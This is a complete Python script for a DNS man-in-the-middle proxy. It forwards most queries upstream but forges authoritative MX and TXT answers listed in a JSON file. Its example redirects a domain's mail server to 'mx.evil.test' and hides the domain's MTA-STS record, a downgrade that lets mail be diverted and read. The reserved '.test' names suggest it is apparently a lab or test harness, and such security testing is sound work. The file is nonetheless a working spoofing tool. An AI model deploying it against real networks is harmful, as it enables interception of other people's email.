"""The man in the middle of DNS: `dns_forger.py PORT UPSTREAM LIES.json`.

Forwards each question to UPSTREAM and its answer back, except for the names and types in LIES.json,
which is read at each question: {"good.test MX": "mx.evil.test", "_mta-sts.good.test TXT": null}.
null says "no such record". Forged answers are unsigned, so only unsigned zones fall for them.
"""
import json
import socket
import struct
import sys

TYPES = {"MX": 15, "TXT": 16}
UPSTREAM_SECONDS = 2
TTL = 1


def question_of(packet):
    """Returns (name, type, end of the question section)."""
    labels, at = [], 12
    while packet[at]:
        labels.append(packet[at + 1 : at + 1 + packet[at]].decode("ascii", "replace").lower())
        at += 1 + packet[at]
    return ".".join(labels), struct.unpack_from("!H", packet, at + 1)[0], at + 5


def wire_name(name):
    return (
        b"".join(bytes([len(label)]) + label.encode() for label in name.split(".") if label) + b"\0"
    )


def record_data(kind, value):
    if kind == "MX":
        return struct.pack("!H", 10) + wire_name(value)
    return bytes([len(value)]) + value.encode()


def forged(packet, end, kind, value):
    """An authoritative answer to the question: the value, or nothing with the SOA of test."""
    identity, flags = struct.unpack_from("!HH", packet)
    flags = 0x8400 | (flags & 0x0110)  # response, authoritative; RD and CD as asked
    header = struct.pack("!HHHHHH", identity, flags, 1, value is not None, value is None, 0)
    if value is None:
        owner, number = wire_name("test"), 6
        data = (
            wire_name("ns.test")
            + wire_name("hostmaster.test")
            + struct.pack("!5I", 1, 60, 60, 60, TTL)
        )
    else:
        owner, number, data = b"\xc0\x0c", TYPES[kind], record_data(kind, value)
    return header + packet[12:end] + owner + struct.pack("!HHIH", number, 1, TTL, len(data)) + data


def forward(packet, upstream):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(UPSTREAM_SECONDS)
        out.sendto(packet, (upstream, 53))
        return out.recv(65535)


def answer(packet, upstream, lies_file):
    name, number, end = question_of(packet)
    with open(lies_file, encoding="utf-8") as file:
        lies = json.load(file)
    for kind, code in TYPES.items():
        key = f"{name} {kind}"
        if code == number and key in lies:
            print(f"forged {key}: {lies[key]}", flush=True)
            return forged(packet, end, kind, lies[key])
    return forward(packet, upstream)


def main(port, upstream, lies_file):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("0.0.0.0", int(port)))
        while True:
            packet, client = listener.recvfrom(65535)
            try:
                listener.sendto(answer(packet, upstream, lies_file), client)
            except (OSError, IndexError, struct.error) as error:
                print(f"{client}: {error!r}", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
